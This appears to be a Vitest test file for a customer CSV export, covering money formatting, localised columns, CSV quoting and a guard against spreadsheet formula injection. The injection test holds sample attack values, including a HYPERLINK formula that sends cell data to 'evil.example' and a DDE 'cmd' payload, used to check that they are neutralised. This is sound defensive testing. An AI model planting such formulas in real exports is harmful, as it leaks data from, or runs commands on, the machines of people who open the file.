import { describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { csvFormat, csvLines, EXPORT_COLUMNS, guardFormula, minorToDecimal, rowValues, type CustomerExportRow } from "#app/core/export/customer-csv.ts";

const labels = { yes: "sim", no: "não", segment: (k: string) => `seg:${k}`, churn: (b: string) => `churn:${b}` };
const base: CustomerExportRow = {
  id: 7, platformId: "123", email: "a@b.com", phone: "+5511999990000", firstName: "Ana", lastName: "Silva", taxId: "12345678909",
  birthDate: new Date("1990-05-04T00:00:00Z"), gender: null, locale: "pt-BR", city: "São Paulo", province: "SP", zip: "01000-000",
  country: "BR", acceptsEmailMarketing: true, acceptsSmsMarketing: false, consentUpdatedAt: null, ordersCount: 3,
  revenueMinor: 123456n, avgOrderMinor: 41152n, firstOrderAt: new Date("2026-01-02T03:04:05Z"), lastOrderAt: null,
  rfmSegment: "champions", rScore: 5, fScore: 4, mScore: 5, cluster: 1, predictedClvMinor: -5n, churnRisk: 0.7, tags: ["vip", "b2b"],
  platformCreatedAt: null,
};

describe("customer CSV values", () => {
  it("writes money exactly as a decimal in the store's currency", () => {
    expect(minorToDecimal(123456n, "BRL", ",")).toBe("1234,56");
    expect(minorToDecimal(123456n, "USD", ".")).toBe("1234.56");
    expect(minorToDecimal(5n, "BRL", ",")).toBe("0,05");
    expect(minorToDecimal(-150n, "BRL", ".")).toBe("-1.50");
    expect(minorToDecimal(500n, "JPY", ".")).toBe("500");
    expect(minorToDecimal(1234n, "KWD", ".")).toBe("1.234");
    expect(minorToDecimal(2n ** 62n, "BRL", ".")).toBe("46116860184273879.04");
  });

  it("maps a row to the columns in order, localised", () => {
    const v = rowValues(base, "BRL", csvFormat("pt-BR"), labels);
    const byCol = Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, v[i]]));
    expect(byCol).toMatchObject({
      id: "7", revenue: "1234,56", averageOrder: "411,52", currency: "BRL", predictedClv: "-0,05", birthDate: "1990-05-04",
      firstOrderAt: "2026-01-02T03:04:05.000Z", lastOrderAt: "", acceptsEmailMarketing: "sim", acceptsSmsMarketing: "não",
      rfmSegment: "seg:champions", churnRisk: "0,7000", churnBand: "churn:high", tags: "vip, b2b",
    });
    const en = rowValues({ ...base, churnRisk: null, rfmSegment: null, revenueMinor: null }, "USD", csvFormat("en"), labels);
    const enCol = Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, en[i]]));
    expect(enCol).toMatchObject({ revenue: "0.00", churnRisk: "", churnBand: "", rfmSegment: "" });
  });

  it("guards text from customers and the platform against formula injection, never our own numbers", () => {
    for (const bad of ["=1+2", '=HYPERLINK("http://evil.example/?"&A1;"clique")', "+55 11 99999-0000", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]) {
      expect(guardFormula(bad)).toBe(`'${bad}`);
    }
    for (const ok of ["Ana", "", " =not first", "São Paulo", "1+1", "a=b"]) expect(guardFormula(ok)).toBe(ok);
    const evil = {
      ...base, firstName: "=cmd|' /C calc'!A0", lastName: "+1", email: "@x", phone: "+5511999990000", city: "-Recife", province: "\tSP",
      zip: "=0", country: "@BR", gender: "=g", locale: "+pt", taxId: "-123", platformId: "=p", tags: ["=vip", "b2b"], predictedClvMinor: -5n,
    };
    const v = Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, rowValues(evil, "BRL", csvFormat("pt-BR"), labels)[i]]));
    expect(v).toMatchObject({
      firstName: "'=cmd|' /C calc'!A0", lastName: "'+1", email: "'@x", phone: "'+5511999990000", city: "'-Recife", province: "'\tSP",
      zip: "'=0", country: "'@BR", gender: "'=g", locale: "'+pt", taxId: "'-123", platformId: "'=p", tags: "'=vip, b2b",
      predictedClv: "-0,05", // a number we wrote: not guarded
    });
    // And it survives CSV quoting: a parser reads the guarded text back.
    const format = csvFormat("en");
    expect(parse(csvLines([[v.firstName!, v.province!]], format), { delimiter: format.delimiter })).toEqual([["'=cmd|' /C calc'!A0", "'\tSP"]]);
  });

  it("quotes separators, quotes and line breaks so a CSV parser reads the same values back", () => {
    const nasty = ["a;b", 'say "hi"', "two\nlines", "x,y", "plain", "=1+2"];
    for (const locale of ["pt-BR", "en"] as const) {
      const format = csvFormat(locale);
      const text = csvLines([nasty, nasty], format);
      expect(parse(text, { delimiter: format.delimiter })).toEqual([nasty, nasty]);
    }
    expect(csvLines([["a;b", "c"]], csvFormat("pt-BR"))).toBe('"a;b";c\r\n');
    expect(csvLines([["a;b", "c,d"]], csvFormat("en"))).toBe('a;b,"c,d"\r\n');
    expect(csvLines([['he said "no"']], csvFormat("en"))).toBe('"he said ""no"""\r\n');
  });
});
